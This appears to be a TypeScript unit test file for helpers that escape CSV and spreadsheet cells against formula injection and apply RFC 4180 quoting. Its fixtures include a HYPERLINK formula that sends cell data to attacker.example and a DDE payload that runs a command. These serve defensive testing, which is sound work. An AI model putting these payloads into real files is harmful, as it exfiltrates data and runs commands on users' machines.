import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvField, spreadsheetCell } from './spreadsheet.ts';

describe('spreadsheet cells', () => {
  it('puts a quote before text that a spreadsheet would run as a formula', () => {
    for (const [value, written] of [
      ['=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")', `'=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")`],
      ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', "'\r=1+1"],
      // A negative amount in a text column is text too.
      ['-25.00', "'-25.00"],
    ]) {
      assert.equal(spreadsheetCell(value!), written, value);
    }
  });

  it('leaves other text as it is', () => {
    for (const value of ['', 'Payment 123', 'a=b', ' =1+1', "'=already quoted", '2024-03-01T00:00:00.000Z', 'ÜBERWEISUNG', '25.00']) {
      assert.equal(spreadsheetCell(value), value);
    }
  });

  it('keeps the numbers of a number column numbers, and makes anything else in it text', () => {
    for (const value of ['-25.00', '25.00', '0', '-0.000001', '123456789012345678.123456', '1e21', '-1.5E-7']) {
      assert.equal(spreadsheetCell(value, 'number'), value);
    }
    assert.equal(spreadsheetCell('', 'number'), '');
    assert.equal(spreadsheetCell('-1+2', 'number'), "'-1+2");
    assert.equal(spreadsheetCell('=1', 'number'), "'=1");
    assert.equal(spreadsheetCell('+25.00', 'number'), "'+25.00");
    assert.equal(spreadsheetCell('- 25', 'number'), "'- 25");
  });

  it('quotes a CSV field after making it safe, as RFC 4180 says', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('line\nbreak'), '"line\nbreak"');
    assert.equal(csvField('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
    assert.equal(csvField('\r=1'), `"'\r=1"`);
    assert.equal(csvField('-25.00', 'number'), '-25.00');
    assert.equal(csvField('-25.00'), "'-25.00");
  });
});
